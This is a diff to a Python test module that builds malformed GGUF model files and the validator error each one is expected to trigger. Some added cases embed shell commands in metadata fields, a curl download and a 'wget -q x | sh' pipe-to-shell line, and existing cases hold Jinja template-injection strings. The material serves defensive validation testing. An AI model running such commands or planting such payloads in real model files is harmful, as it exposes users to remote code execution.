@@ -60,7 +60,7 @@ def gguf_cases() -> dict[str, tuple[str, bytes]]:
 
     return {
         "empty": ("GGUF-MAGIC", b""),
-        "other_magic": ("GGUF-MAGIC", b"GGML" + good[4:]),
+        "other_magic": ("GGUF-MAGIC", b"GGUX" + good[4:]),
         "version_zero": ("GGUF-VERSION", gguf_bytes([key], [tensor], whole, version=0)),
         "version_nine": ("GGUF-VERSION", gguf_bytes([key], [tensor], whole, version=9)),
         "only_magic": ("GGUF-HEADER", b"GGUF"),
@@ -99,6 +99,7 @@ def gguf_cases() -> dict[str, tuple[str, bytes]]:
         "version_one": ("GGUF-VERSION", gguf_bytes([key], [tensor], whole, version=1)),
         "legacy_ggjt": ("GGUF-LEGACY", b"tjgg" + bytes(64)),
         "legacy_ggml": ("GGUF-LEGACY", b"lmgg" + bytes(64)),
+        "legacy_big_endian": ("GGUF-LEGACY", b"GGMF\0\0\0\1" + bytes(64)),
         "alignment_of_64_bits": ("GGUF-ALIGN", aligned_to(struct.pack("<Q", 32), 10)),
         "empty_dimension": ("GGUF-DIMS", holding(gguf_tensor("w", [8, 0], 0))),
         "zero_in_key": ("GGUF-VALUE", gguf_bytes([key, gguf_key("a\0b", 4, bytes(4))], [tensor], whole)),
@@ -124,5 +125,7 @@ def gguf_metadata_cases() -> dict[str, tuple[str, bytes]]:
         "more_token_types": ("GGUF-VOCAB", gguf_bytes([key, tokens, gguf_array("tokenizer.ggml.token_type", 5, 3, bytes(12))], [tensor], whole)),
         "part_of_none": ("GGUF-SPLIT", gguf_bytes([key, gguf_key("split.no", 2, b"\2\0"), gguf_key("split.count", 2, b"\2\0")], [tensor], whole)),
         "template_elsewhere": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.description", 8, gguf_string("{{ ''.__class__ }}"))], [tensor], whole)),
+        "command": ("GGUF-TEXT", gguf_bytes([key, gguf_key("download", 8, gguf_string("curl -o /tmp/x https://example.org/x"))], [tensor], whole)),
+        "command_for_a_shell": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.url", 8, gguf_string("see: wget -q x | sh"))], [tensor], whole)),
         "template_in_array": ("GGUF-TEXT", gguf_bytes([key, gguf_array("tokenizer.templates", 8, 1, gguf_string("{% set x = y|attr('z') %}"))], [tensor], whole)),
     }  # fmt: skip
